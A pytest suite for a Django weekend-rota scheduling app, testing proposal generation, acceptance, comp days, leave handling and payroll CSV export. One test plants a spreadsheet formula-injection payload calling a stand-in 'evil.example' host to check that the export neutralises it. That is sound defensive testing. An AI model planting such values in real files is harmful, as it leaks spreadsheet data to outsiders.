"""The rota in the app: generate, review, accept into the ledger and the plan."""

import csv
import datetime as dt
import io

import pytest
from django.core import mail
from django.urls import reverse

from scheduling import solver
from scheduling.models import (
    CompDay,
    EntryKind,
    RotaProposal,
    RotaSettings,
    RotaWish,
    ScheduleEntry,
    TimeOffRequest,
    WeekendDuty,
)
from scheduling.services import rota, schedule, time_off
from scheduling.services.schedule import ScheduleConflict
from tests.conftest import client_for
from tests.factories import (
    AssociateFactory,
    CoverageRequirementFactory,
    PublicHolidayFactory,
    RotaSettingsFactory,
    TimeOffRequestFactory,
)
from tests.scheduling.conftest import LAST, MONDAY

pytestmark = pytest.mark.django_db


def generate(client, team, first=MONDAY, weeks=4):
    return client.post(
        reverse("scheduling:rota-generate", kwargs={"team_id": team.pk}),
        {"first_day": first.isoformat(), "weeks": weeks},
    )


def test_lead_generates_reviews_and_accepts_a_rota(cast, team, lead, crew):
    client = client_for(lead)
    generate(client, team)
    proposal = RotaProposal.objects.get()
    assert not proposal.conflicts
    assert len(proposal.duties) == 8  # 4 weekends x 2 days x 1 seat
    assert all(d["reason"] and d["comp_reason"] for d in proposal.duties)
    page = client.get(reverse("scheduling:rota", kwargs={"team_id": team.pk})).content.decode()
    assert "Why each person, and their weekday off" in page
    assert "Fairness: weekend days over the last 12 months" in page
    assert WeekendDuty.objects.count() == 0  # nothing changes before accepting

    response = client.post(
        reverse("scheduling:rota-accept", kwargs={"team_id": team.pk, "proposal_id": proposal.pk}),
        {"all": "1"},
    )
    assert response.status_code == 302
    assert WeekendDuty.objects.count() == 8
    assert CompDay.objects.filter(status=CompDay.Status.SCHEDULED).count() == 8
    for duty in WeekendDuty.objects.select_related("comp_day"):
        shift = ScheduleEntry.objects.get(associate=duty.associate, on=duty.on)
        assert shift.kind == EntryKind.SHIFT
        assert shift.template.name == "Weekend"
        comp = ScheduleEntry.objects.get(associate=duty.associate, on=duty.comp_day.on)
        assert comp.kind == EntryKind.COMP_DAY
        assert duty.comp_day.expires_on == duty.on + dt.timedelta(days=30)
    assert WeekendDuty.history.count() == 8  # audited


def test_accepting_some_duties_only(cast, team, lead, crew):
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    first = proposal.duties[0]
    rota.accept_rota(
        actor=lead,
        proposal=proposal,
        keys={(first["associate_id"], dt.date.fromisoformat(first["on"]))},
    )
    assert list(WeekendDuty.objects.values_list("associate_id", "on")) == [
        (first["associate_id"], dt.date.fromisoformat(first["on"]))
    ]


def test_an_infeasible_rota_reports_the_conflict_and_writes_nothing(cast, team, lead, crew):
    RotaSettings.objects.filter(team=team).update(saturday_headcount=9)
    response = generate(client_for(lead), team)
    proposal = RotaProposal.objects.get()
    assert proposal.conflicts
    assert "9 weekend seats but only 6 people can work" in proposal.conflicts[0]
    follow = client_for(lead).get(response["Location"]).content.decode()
    assert "No rota meets every need" in follow
    with pytest.raises(ScheduleConflict):
        rota.accept_rota(actor=lead, proposal=proposal)
    assert not WeekendDuty.objects.exists()
    assert not ScheduleEntry.objects.exists()


def test_accept_is_all_or_nothing_when_the_plan_changed_since(cast, team, lead, crew):
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    duty = proposal.duties[0]
    comp_on = dt.date.fromisoformat(duty["comp_on"])
    # Someone's time off lands on a proposed comp day after the proposal was made.
    request = TimeOffRequestFactory(
        associate_id=duty["associate_id"], first_day=comp_on, last_day=comp_on
    )
    time_off.approve_time_off(actor=lead, request=request)
    with pytest.raises(ScheduleConflict):
        rota.accept_rota(actor=lead, proposal=proposal)
    assert not WeekendDuty.objects.exists()
    assert not ScheduleEntry.objects.exclude(kind=EntryKind.TIME_OFF).exists()


def test_leave_a_leaver_and_a_holiday_are_respected(cast, team, lead, crew):
    leaver, on_leave = crew[2], crew[3]
    leaver.left_on = MONDAY + dt.timedelta(days=10)
    leaver.save()
    TimeOffRequestFactory(
        associate=on_leave, first_day=MONDAY, last_day=LAST, status=TimeOffRequest.Status.APPROVED
    )
    holiday = MONDAY + dt.timedelta(days=9)  # a Wednesday
    PublicHolidayFactory(site=team.site, on=holiday, name="A holiday")
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    assert not proposal.conflicts
    for duty in proposal.duties:
        day = dt.date.fromisoformat(duty["on"])
        assert duty["associate_id"] != on_leave.pk
        assert not (duty["associate_id"] == leaver.pk and day >= leaver.left_on)
        assert duty["comp_on"] != holiday.isoformat()


def test_wishes_and_preferred_weekday_shape_the_proposal(cast, team, lead, associate, crew):
    saturday = MONDAY + dt.timedelta(days=5)
    client = client_for(associate.user)
    client.post(
        reverse("scheduling:my-rota-wish"), {"on": saturday.isoformat(), "kind": "volunteer"}
    )
    client.post(reverse("scheduling:my-rota-preference"), {"preferred_comp_weekday": "4"})
    assert RotaWish.objects.get().kind == "volunteer"
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    mine = [d for d in proposal.duties if d["associate_id"] == associate.pk]
    assert any(
        d["on"] == saturday.isoformat()
        and d["reason"].startswith(f"volunteered for {saturday:%-d %b} · ")
        for d in mine
    )
    assert all(dt.date.fromisoformat(d["comp_on"]).weekday() == 4 for d in mine)


def test_a_wish_on_a_weekday_is_refused(cast, associate, crew):
    response = client_for(associate.user).post(
        reverse("scheduling:my-rota-wish"),
        {"on": MONDAY.isoformat(), "kind": "volunteer"},
        follow=True,
    )
    assert "Choose a Saturday or a Sunday." in response.content.decode()
    assert not RotaWish.objects.exists()


def test_associates_see_their_own_published_duties_with_reasons_and_nothing_else(
    cast, team, lead, associate, crew
):
    rota.accept_rota(
        actor=lead,
        proposal=rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST),
    )
    me = client_for(associate.user)
    mine = list(WeekendDuty.objects.filter(associate=associate))
    assert mine
    # Drafts stay with the lead: nothing shows before the weeks are published.
    assert me.get(reverse("scheduling:my-rota")).context["duties"] == []
    ledger = me.get(reverse("scheduling:ledger", kwargs={"associate_id": associate.pk}))
    assert list(ledger.context["duties"]) == []
    assert ledger.context["balance"].open == 0
    assert client_for(lead).get(
        reverse("scheduling:ledger", kwargs={"associate_id": associate.pk})
    ).context["balance"].open == len(mine)

    for week in range(4):
        schedule.publish_week(actor=lead, team=team, monday=MONDAY + dt.timedelta(days=7 * week))
    page = me.get(reverse("scheduling:my-rota"))
    html = page.content.decode()
    assert page.context["team_size"] == 6
    assert "in the rotation" in html
    assert {d.pk for d in page.context["duties"]} == {d.pk for d in mine}
    for duty in mine:
        assert duty.reason in html
    others = set(
        WeekendDuty.objects.exclude(associate=associate).values_list(
            "associate__user__first_name", flat=True
        )
    )
    for name in others - {associate.user.first_name}:
        assert name not in html


def test_the_home_page_shows_the_published_week(cast, team, lead, associate, early, time_machine):
    from scheduling.services.schedule import Change

    time_machine.move_to(dt.datetime(2030, 1, 8, 9, tzinfo=dt.UTC))
    schedule.apply_changes(actor=lead, team=team, changes=[Change.shift(associate, MONDAY, early)])
    home = client_for(associate.user)
    week = home.get(reverse("teams:home")).context["my_week"]
    assert week[0]["label"] is None  # a draft is not shown
    schedule.publish_week(actor=lead, team=team, monday=MONDAY)
    week = home.get(reverse("teams:home")).context["my_week"]
    assert week[0]["label"] == "Early 07:00–15:30"
    assert "Early 07:00–15:30" in home.get(reverse("teams:home")).content.decode()


def test_payroll_csv_counts_weekend_days_worked_per_month(cast, team, lead, crew, time_machine):
    rota.accept_rota(
        actor=lead,
        proposal=rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST),
    )
    time_machine.move_to(dt.datetime(2030, 3, 1, 12, tzinfo=dt.UTC))
    response = client_for(lead).get(reverse("scheduling:rota-payroll", kwargs={"team_id": team.pk}))
    lines = response.content.decode().strip().splitlines()
    assert lines[0] == "month,associate_id,associate,weekend_days_worked"
    assert sum(int(line.rsplit(",", 1)[1]) for line in lines[1:]) == 8
    assert all(line.startswith(("2030-01", "2030-02")) for line in lines[1:])


def test_a_name_that_reads_as_a_formula_comes_out_as_text_in_the_payroll_csv(
    cast, team, lead, crew, time_machine
):
    person = crew[0].user
    person.first_name = '=HYPERLINK("http://evil.example/?x="&A1'
    person.last_name = '"click")'
    person.save()
    rota.accept_rota(
        actor=lead,
        proposal=rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST),
    )
    time_machine.move_to(dt.datetime(2030, 3, 1, 12, tzinfo=dt.UTC))
    response = client_for(lead).get(reverse("scheduling:rota-payroll", kwargs={"team_id": team.pk}))
    names = [row[2] for row in csv.reader(io.StringIO(response.content.decode()))][1:]
    assert any("HYPERLINK" in name for name in names)
    assert not any(name.startswith("=") for name in names)


def test_the_weekly_job_drafts_once_and_tells_the_lead(
    cast, team, lead, crew, django_capture_on_commit_callbacks
):
    today = MONDAY - dt.timedelta(days=7)
    with django_capture_on_commit_callbacks(execute=True):
        made = rota.draft_rotas(today)
    assert len(made) == 1
    assert mail.outbox[-1].to == ["lead@example.com"]
    assert "weekend rota" in mail.outbox[-1].body.lower()
    assert rota.draft_rotas(today) == []  # a proposal is already waiting


def test_a_site_pool_staffs_weekends_from_several_teams_keeping_each_teams_cover(
    cast, team, other_team, lead, crew
):
    from scheduling.models import CoverageRequirement

    others = [AssociateFactory(team=other_team, hired_on=dt.date(2024, 1, 1)) for _ in range(4)]
    settings = RotaSettings.objects.get(team=team)
    settings.saturday_headcount = settings.sunday_headcount = 2
    settings.save()
    settings.pooled_teams.add(other_team)
    # The other team (5 people with the cast's) may not lose anyone on weekdays, so
    # its people cannot take a comp day and the pool staffs weekends with this team.
    CoverageRequirementFactory(team=other_team, day_kind="weekday", min_headcount=5)
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    assert not proposal.conflicts
    assert {d["associate_id"] for d in proposal.duties} <= {a.pk for a in crew}

    # With room in the other team's cover, both teams share the weekends.
    CoverageRequirement.objects.filter(team=other_team).update(min_headcount=1)
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    staffed = {d["associate_id"] for d in proposal.duties}
    assert staffed & {a.pk for a in others}
    assert staffed & {a.pk for a in crew}
    rota.accept_rota(actor=lead, proposal=proposal)
    assert WeekendDuty.objects.filter(associate__team=other_team).exists()
    assert ScheduleEntry.objects.filter(
        associate__team=other_team, kind=EntryKind.COMP_DAY
    ).exists()
    # The pooled team is drafted with its pool, never on its own.
    RotaSettingsFactory(team=other_team)
    assert all(
        RotaProposal.objects.get(pk=pk).team == team
        for pk in rota.draft_rotas(MONDAY + dt.timedelta(days=21))
    )


def test_wishes_more_than_a_year_ahead_are_refused(cast, associate):
    response = client_for(associate.user).post(
        reverse("scheduling:my-rota-wish"), {"on": "2099-01-03", "kind": "volunteer"}, follow=True
    )
    assert "within the next year" in response.content.decode()
    assert "<ul" not in response.context["messages"]._loaded_messages[0].message
    assert not RotaWish.objects.exists()


def test_the_weekly_job_plans_from_the_sites_day(cast, team, lead, crew, time_machine):
    from scheduling.tasks import draft_weekend_rotas

    team.site.time_zone = "Pacific/Auckland"
    team.site.save()
    # 12:00 UTC on Sunday 13 January is 01:00 on Monday 14 January in Auckland:
    # the next period starts the Monday after the site's week, 21 January.
    time_machine.move_to(dt.datetime(2030, 1, 13, 12, tzinfo=dt.UTC))
    assert dt.date.today() == dt.date(2030, 1, 13)
    [made] = draft_weekend_rotas()
    assert RotaProposal.objects.get(pk=made).first_day == dt.date(2030, 1, 21)


# --- Plans that broke the rules (issue 12, points 1-4) -----------------------------


def _weekday_cover_by_plan(team, days):
    """An independent count: who works each weekday, from the written plan, leave,
    and employment (an unplanned day is a working day for someone employed)."""
    people = list(team.associates.filter(is_active=True))
    cover = {}
    for day in days:
        working = 0
        for person in people:
            if day < person.hired_on or (person.left_on and day >= person.left_on):
                continue
            entry = ScheduleEntry.objects.filter(associate=person, on=day).first()
            on_leave = TimeOffRequest.objects.filter(
                associate=person, status="approved", first_day__lte=day, last_day__gte=day
            ).exists()
            if entry is None:
                working += not on_leave
            elif entry.kind == EntryKind.SHIFT:
                working += 1
        cover[day] = working
    return cover


def test_comp_days_fall_inside_employment(cast, team, lead, crew, settings):
    """Point 1: a joiner's comp day is not before they join, a leaver's not after
    (with no settling-in weeks, so the joiner's first weekend may be a duty)."""
    settings.ROTA_NEW_JOINER_WEEKS = 0
    from tests.factories import RotaPreferenceFactory, RotaWishFactory

    joiner, leaver = crew[2], crew[3]
    joiner.hired_on = MONDAY + dt.timedelta(days=10)  # Thursday of week 2
    joiner.save()
    leaver.left_on = MONDAY + dt.timedelta(days=17)  # Thursday of week 3
    leaver.save()
    saturday = MONDAY + dt.timedelta(days=12)
    RotaWishFactory(associate=joiner, on=saturday)
    RotaWishFactory(associate=leaver, on=saturday + dt.timedelta(days=1))
    RotaPreferenceFactory(associate=joiner, preferred_comp_weekday=0)  # Mon 14th: not yet there
    RotaPreferenceFactory(associate=leaver, preferred_comp_weekday=4)  # Fri 25th: gone
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    assert not proposal.conflicts
    mine: dict[int, list[tuple[dt.date, dt.date]]] = {joiner.pk: [], leaver.pk: []}
    for duty in proposal.duties:
        if duty["associate_id"] in mine:
            mine[duty["associate_id"]].append(
                (dt.date.fromisoformat(duty["on"]), dt.date.fromisoformat(duty["comp_on"]))
            )
    assert mine[joiner.pk]
    assert mine[leaver.pk]
    assert all(on >= joiner.hired_on and comp >= joiner.hired_on for on, comp in mine[joiner.pk])
    assert all(on < leaver.left_on and comp < leaver.left_on for on, comp in mine[leaver.pk])


def test_a_leaver_does_not_count_towards_the_weekday_cover_comp_days_use(cast, team, lead, crew):
    """Point 2: after accepting, no weekday is below its minimum."""
    from tests.factories import RotaPreferenceFactory

    CoverageRequirementFactory(team=team, day_kind="weekday", min_headcount=4)
    leaver = crew[5]
    leaver.left_on = MONDAY + dt.timedelta(days=3)
    leaver.save()
    for person in crew:
        RotaPreferenceFactory(associate=person, preferred_comp_weekday=0)  # all want Mondays
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    assert not proposal.conflicts
    rota.accept_rota(actor=lead, proposal=proposal)
    comp_days = sorted({on for on in CompDay.objects.values_list("on", flat=True) if on})
    cover = _weekday_cover_by_plan(team, comp_days)
    assert {day: n for day, n in cover.items() if n < 4} == {}


def test_accepting_rechecks_the_weekday_cover_from_the_real_plan(cast, team, lead, crew):
    """Point 2: cover that broke after the proposal was made refuses the accept."""
    CoverageRequirementFactory(team=team, day_kind="weekday", min_headcount=3)
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    duty = proposal.duties[0]
    comp_on = dt.date.fromisoformat(duty["comp_on"])
    # Two others go on leave that day (approved elsewhere, without a plan cell).
    others = [p for p in crew if p.pk != duty["associate_id"]][:3]
    for person in others:
        TimeOffRequestFactory(
            associate=person, first_day=comp_on, last_day=comp_on, status="approved"
        )
    with pytest.raises(ScheduleConflict) as refused:
        rota.accept_rota(actor=lead, proposal=proposal)
    assert "would leave weekdays short" in " ".join(refused.value.reasons)
    assert f"{comp_on:%a %-d %b}" in " ".join(refused.value.reasons)
    assert not WeekendDuty.objects.exists()
    assert not CompDay.objects.exists()


def test_leave_and_absence_inside_the_period_are_credited(cast, team, lead, crew, settings):
    """Point 4: two weekends of leave in the period are not owed back in it."""
    settings.ROTA_NEW_JOINER_WEEKS = 0  # the joiner's days before joining only
    on_leave, joiner = crew[3], crew[4]
    TimeOffRequestFactory(
        associate=on_leave,
        first_day=MONDAY + dt.timedelta(days=5),
        last_day=MONDAY + dt.timedelta(days=13),  # two weekends
        status="approved",
    )
    joiner.hired_on = MONDAY + dt.timedelta(days=14)  # misses the first two weekends
    joiner.save()
    built = rota.build_problem(team, MONDAY, LAST)
    credit = {p.id: p.history for p in built.problem.people}
    # 8 seats over 6 people x 8 days less 4 days away each: 8 / 40 = 0.2 a day.
    assert credit[on_leave.pk] == round(0.2 * 4)
    assert credit[joiner.pk] == round(0.2 * 4)
    assert {credit[p.pk] for p in crew if p not in (on_leave, joiner)} == {0}


def test_the_rota_starts_by_default_after_the_published_weeks(cast, team, lead, crew):
    """Issue 13, point 3: after publishing next week the default start is the week
    after it, and a plan over the published week names it as the constraint."""
    from django.utils import timezone

    from tests.factories import ScheduleWeekFactory

    today = team.site.local_today()
    next_monday = today - dt.timedelta(days=today.weekday()) + dt.timedelta(days=7)
    ScheduleWeekFactory(team=team, starts_on=next_monday, published_at=timezone.now())
    page = client_for(lead).get(reverse("scheduling:rota", kwargs={"team_id": team.pk}))
    form = page.context["generate_form"]
    assert form.initial["first_day"] == next_monday + dt.timedelta(days=7)
    RotaSettings.objects.filter(team=team).update(saturday_headcount=9)  # cannot be met
    proposal = rota.generate_rota(
        actor=lead, team=team, first=next_monday, last=next_monday + dt.timedelta(days=27)
    )
    assert proposal.conflicts[0].startswith("Published in this period: the week of")
    assert f"{next_monday + dt.timedelta(days=7):%a %-d %b}" in proposal.conflicts[0]


def test_accepting_writes_the_comp_days_the_proposal_shows_for_kept_duties(cast, team, lead, crew):
    """Issue 13, point 4: a kept duty whose comp day the new proposal moves gets that
    comp day in the ledger and the grid, not the old one."""
    from tests.factories import RotaPreferenceFactory

    first = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    rota.accept_rota(actor=lead, proposal=first)
    # Everyone now prefers Fridays: a new proposal keeps the duties, moves comp days.
    for person in crew:
        RotaPreferenceFactory(associate=person, preferred_comp_weekday=4)
    second = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    shown = {
        (d["associate_id"], d["on"]): d["comp_on"] for d in second.duties if not d.get("removed")
    }
    assert any(dt.date.fromisoformat(c).weekday() == 4 for c in shown.values()), (
        "the proposal should move some comp days to Fridays"
    )
    assert shown != {(d["associate_id"], d["on"]): d["comp_on"] for d in first.duties}
    rota.accept_rota(actor=lead, proposal=second)
    written = {
        (duty.associate_id, duty.on.isoformat()): duty.comp_day.on.isoformat()
        for duty in WeekendDuty.objects.select_related("comp_day")
    }
    assert written == shown
    for (associate_id, _on), comp_on in shown.items():
        cell = ScheduleEntry.objects.get(associate_id=associate_id, on=comp_on)
        assert cell.kind == EntryKind.COMP_DAY
    comp_cells = ScheduleEntry.objects.filter(kind=EntryKind.COMP_DAY).count()
    assert comp_cells == len(shown)  # the old comp-day cells are gone


SATURDAY = MONDAY + dt.timedelta(days=5)


def test_a_weekend_shift_typed_into_the_grid_is_refused_without_a_duty(
    cast, team, lead, associate, crew, weekend
):
    """Weekend work earns a comp day, so it comes from the rota (issue 13, point 5)."""
    client = client_for(lead)
    response = client.post(
        reverse(
            "scheduling:schedule-cell",
            kwargs={"team_id": team.pk, "associate_id": associate.pk, "day": SATURDAY.isoformat()},
        ),
        {"assignment": f"t{weekend.pk}"},
        follow=True,
    )
    assert "weekend work comes from the weekend rota" in response.content.decode()
    assert not ScheduleEntry.objects.filter(on=SATURDAY).exists()
    with pytest.raises(ScheduleConflict, match="earns a comp day"):
        schedule.assign_template(
            actor=lead, team=team, associates=[associate], days=[SATURDAY], template=weekend
        )
    assert not ScheduleEntry.objects.filter(on=SATURDAY).exists()


def test_a_duty_s_own_weekend_shift_can_still_be_edited(cast, team, lead, crew, weekend):
    rota.accept_rota(
        actor=lead, proposal=rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    )
    duty = WeekendDuty.objects.order_by("on").first()
    schedule.apply_changes(
        actor=lead,
        team=team,
        changes=[
            schedule.Change(
                associate=duty.associate,
                on=duty.on,
                kind=EntryKind.SHIFT,
                template=weekend,
                starts_at=dt.time(10),
                ends_at=dt.time(17),
                break_minutes=30,
            )
        ],
    )
    assert ScheduleEntry.objects.get(associate=duty.associate, on=duty.on).starts_at == dt.time(10)


@pytest.mark.parametrize("kind", [EntryKind.DAY_OFF, EntryKind.TIME_OFF, None])
def test_a_duty_day_not_worked_cancels_its_duty_and_comp_day(cast, team, lead, crew, kind):
    """Weekend work earns a comp day both ways: a duty's day set by hand to anything
    but a shift was not worked, so the duty, its comp day and that cell go."""
    from scheduling.models import CompDay

    rota.accept_rota(
        actor=lead, proposal=rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    )
    duty = WeekendDuty.objects.select_related("comp_day").order_by("on").first()
    person, comp_on = duty.associate, duty.comp_day.on
    duties = WeekendDuty.objects.count()

    schedule.apply_changes(
        actor=lead, team=team, changes=[schedule.Change(associate=person, on=duty.on, kind=kind)]
    )

    assert not WeekendDuty.objects.filter(pk=duty.pk).exists()
    assert not CompDay.objects.filter(duty_id=duty.pk).exists()
    assert WeekendDuty.objects.count() == duties - 1
    assert not ScheduleEntry.objects.filter(associate=person, on=comp_on).exists()
    left = ScheduleEntry.objects.filter(associate=person, on=duty.on).values_list("kind", flat=True)
    assert list(left) == ([] if kind is None else [kind])


def test_a_duty_day_whose_comp_day_was_taken_cannot_be_unworked(cast, team, lead, crew):
    from scheduling.models import CompDay

    rota.accept_rota(
        actor=lead, proposal=rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    )
    duty = WeekendDuty.objects.select_related("comp_day").order_by("on").first()
    CompDay.objects.filter(pk=duty.comp_day.pk).update(status=CompDay.Status.TAKEN)

    with pytest.raises(ScheduleConflict, match="already took the comp day"):
        schedule.apply_changes(
            actor=lead,
            team=team,
            changes=[schedule.Change(associate=duty.associate, on=duty.on, kind=EntryKind.DAY_OFF)],
        )
    assert WeekendDuty.objects.filter(pk=duty.pk).exists()
    cell = ScheduleEntry.objects.get(associate=duty.associate, on=duty.on)
    assert cell.kind == EntryKind.SHIFT


def test_copying_last_week_leaves_its_weekend_shifts_to_the_rota(
    cast, team, lead, associate, crew, early, weekend
):
    rota.accept_rota(
        actor=lead, proposal=rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    )
    worked = WeekendDuty.objects.filter(on__lte=MONDAY + dt.timedelta(days=6)).first()
    target = MONDAY + dt.timedelta(days=7)
    ScheduleEntry.objects.filter(on__gte=target).delete()
    CompDay.objects.filter(duty__on__gte=target).delete()
    WeekendDuty.objects.filter(on__gte=target).delete()
    response = client_for(lead).post(
        reverse("scheduling:schedule-copy", kwargs={"team_id": team.pk}),
        {"week": target.isoformat()},
        follow=True,
    )
    assert "Weekend shifts are not copied" in response.content.decode()
    copied = ScheduleEntry.objects.filter(on__gte=target, kind=EntryKind.SHIFT)
    assert not [e for e in copied if e.on.weekday() >= 5]
    assert worked is not None  # the source week had weekend work to (not) copy


def test_accept_all_drops_weekend_shifts_that_have_no_duty(cast, team, lead, associate, crew):
    """A weekend shift put on the plan before the grid refused them (or in the admin)
    is shown as dropped and cleared by "Accept all", so no weekend day is worked
    outside the ledger."""
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    chosen = {(d["associate_id"], d["on"]) for d in proposal.duties}
    outsider = next(
        p for p in crew if (p.pk, SATURDAY.isoformat()) not in chosen
    )  # someone the solver will not put on that Saturday
    ScheduleEntry.objects.create(
        associate=outsider,
        on=SATURDAY,
        kind=EntryKind.SHIFT,
        starts_at=dt.time(9),
        ends_at=dt.time(17),
    )
    proposal = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    dropped = [d for d in proposal.duties if d.get("no_duty")]
    assert [(d["associate_id"], d["on"]) for d in dropped] == [
        (outsider.pk, SATURDAY.isoformat())
    ] or (outsider.pk, SATURDAY.isoformat()) in {
        (d["associate_id"], d["on"]) for d in proposal.duties if not d.get("removed")
    }
    page = client_for(lead).get(reverse("scheduling:rota", kwargs={"team_id": team.pk}))
    assert "no weekend duty" in page.content.decode()
    rota.accept_rota(actor=lead, proposal=proposal)
    worked = {
        (e.associate_id, e.on)
        for e in ScheduleEntry.objects.filter(kind=EntryKind.SHIFT)
        if e.on.weekday() >= 5
    }
    assert worked == set(WeekendDuty.objects.values_list("associate_id", "on"))


def test_the_admin_refuses_a_weekend_shift_without_a_duty(cast, associate, crew):
    from scheduling.admin import ScheduleEntryForm

    data = {
        "associate": associate.pk,
        "on": SATURDAY.isoformat(),
        "kind": EntryKind.SHIFT,
        "starts_at": "09:00",
        "ends_at": "17:00",
        "break_minutes": 30,
        "note": "",
    }
    form = ScheduleEntryForm(data=data)
    assert not form.is_valid()
    assert "earns its comp day" in str(form.errors)
    WeekendDuty.objects.create(associate=associate, on=SATURDAY, reason="by hand")
    assert ScheduleEntryForm(data=data).is_valid(), ScheduleEntryForm(data=data).errors


def test_the_generate_form_keeps_the_typed_inputs_after_a_generate_or_a_refusal(
    cast, team, lead, crew
):
    client = client_for(lead)
    later = MONDAY + dt.timedelta(days=14)
    response = generate(client, team, first=later, weeks=8)
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    assert f'value="{later.isoformat()}"' in page
    assert '<option value="8" selected>' in page
    # A refused form (not a Monday) comes back as typed, not as the defaults.
    tuesday = MONDAY + dt.timedelta(days=1)
    response = generate(client, team, first=tuesday, weeks=13)
    page = client.get(response["Location"]).content.decode()
    assert f'value="{tuesday.isoformat()}"' in page
    assert '<option value="13" selected>' in page
    assert "Start the rota on a Monday" in page
    assert "data-busy-form" in page
    assert "busy-form.js" in page


def test_explained_duties_are_sorted_by_date_then_name():
    from types import SimpleNamespace

    from scheduling.selectors.rota import explained_duties

    def duty(name, on):
        return {"name": name, "on": on, "comp_on": on, "reason": "r", "comp_reason": "c"}

    proposal = SimpleNamespace(
        duties=[
            duty("Zed", "2026-12-19"),
            duty("Bea", "2026-12-12"),
            duty("Amy", "2026-12-19"),
            duty("Cat", "2026-12-13") | {"removed": True},
        ]
    )
    rows = explained_duties(proposal)
    assert [(r["on"], r["name"]) for r in rows] == [
        ("2026-12-12", "Bea"),
        ("2026-12-19", "Amy"),
        ("2026-12-19", "Zed"),
    ]


def test_a_kept_duty_s_old_comp_day_can_go_to_a_new_duty_of_the_same_person(cast, team, lead, crew):
    """The solver may move a kept duty's comp day and give its old date to a new duty
    of the same person; accepting writes both instead of refusing the old cell."""
    first = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    rota.accept_rota(actor=lead, proposal=first)
    kept = WeekendDuty.objects.select_related("comp_day").order_by("on", "pk").first()
    person, old_comp = kept.associate_id, kept.comp_day.on
    busy = set(ScheduleEntry.objects.filter(associate_id=person).values_list("on", flat=True)) | {
        d for d in WeekendDuty.objects.filter(associate_id=person).values_list("on", flat=True)
    }
    days = [MONDAY + dt.timedelta(days=n) for n in range(28)]
    new_on = next(d for d in days if d.weekday() >= 5 and d not in busy and d > kept.on)
    new_comp = next(
        d for d in days if d.weekday() < 5 and d not in busy and d != old_comp and d > kept.on
    )
    second = rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST)
    duties = [dict(d) for d in second.duties if not d.get("removed")]
    for d in duties:
        if (d["associate_id"], d["on"]) == (person, kept.on.isoformat()):
            d["comp_on"] = new_comp.isoformat()
            template = d
    duties.append(
        {**template, "on": new_on.isoformat(), "comp_on": old_comp.isoformat(), "is_fixed": False}
    )
    second.duties = duties
    second.save()

    rota.accept_rota(
        actor=lead,
        proposal=second,
        keys={(person, new_on)}
        | {(d["associate_id"], dt.date.fromisoformat(d["on"])) for d in duties},
    )

    comps = dict(WeekendDuty.objects.filter(associate_id=person).values_list("on", "comp_day__on"))
    assert comps[kept.on] == new_comp
    assert comps[new_on] == old_comp
    cells = dict(
        ScheduleEntry.objects.filter(associate_id=person, on__in=[old_comp, new_comp]).values_list(
            "on", "kind"
        )
    )
    assert cells == {old_comp: EntryKind.COMP_DAY, new_comp: EntryKind.COMP_DAY}


def test_reasons_name_approved_leave_apart_from_other_absence(cast, team, lead, crew, settings):
    """Issue 13, point 13: a weekend on approved leave reads "approved leave", not
    "unavailable"; days before joining read "not on the team"."""
    settings.ROTA_NEW_JOINER_WEEKS = 0
    on_leave, joiner = crew[3], crew[4]
    saturday = MONDAY + dt.timedelta(days=5)
    TimeOffRequestFactory(
        associate=on_leave, first_day=saturday, last_day=saturday, status="approved"
    )
    joiner.hired_on = MONDAY + dt.timedelta(days=14)
    joiner.save()
    # A wish gives the joiner a duty in every optimal plan (otherwise who gets one
    # is a tie among equally good plans).
    RotaWish.objects.create(associate=joiner, on=saturday + dt.timedelta(days=14), kind="volunteer")
    built = rota.build_problem(team, MONDAY, LAST)
    people = {p.id: p for p in built.problem.people}
    assert people[on_leave.pk].on_leave == {saturday}
    assert saturday in people[on_leave.pk].unavailable
    first_two_weekends = {saturday + dt.timedelta(days=n) for n in (0, 1, 7, 8)}
    assert people[joiner.pk].not_employed == first_two_weekends
    plan = solver.solve(built.problem)
    assert isinstance(plan, solver.RotaPlan)
    reasons = {d.person_id: d.reason for d in plan.duties}
    assert f"approved leave {saturday:%-d %b}" in reasons[on_leave.pk]
    assert "unavailable" not in reasons[on_leave.pk]
    assert f"not on the team {saturday:%-d %b}" in reasons[joiner.pk]


def test_a_half_day_of_leave_takes_no_weekend_day_and_gets_no_comp_day(cast, team, lead, crew):
    """Issue 13, point 13: half a day off on a weekday (or on a rostered weekend day)
    leaves the person available for a whole-day weekend duty, uncredited as away, and
    the comp day goes elsewhere: it would swallow the half day."""
    person = crew[0]
    saturday = MONDAY + dt.timedelta(days=5)
    friday = MONDAY + dt.timedelta(days=4)
    for day in (friday, saturday):
        TimeOffRequestFactory(
            associate=person,
            first_day=day,
            last_day=day,
            last_day_part="morning",
            status="approved",
        )
    built = rota.build_problem(team, MONDAY, LAST)
    me = next(p for p in built.problem.people if p.id == person.pk)
    assert saturday not in me.unavailable
    assert not me.on_leave
    assert friday in me.half_days
    assert saturday in me.half_days
    assert friday not in solver.comp_choices(built.problem, me, saturday)
    assert me.history == 0  # no credit for being away: they were not


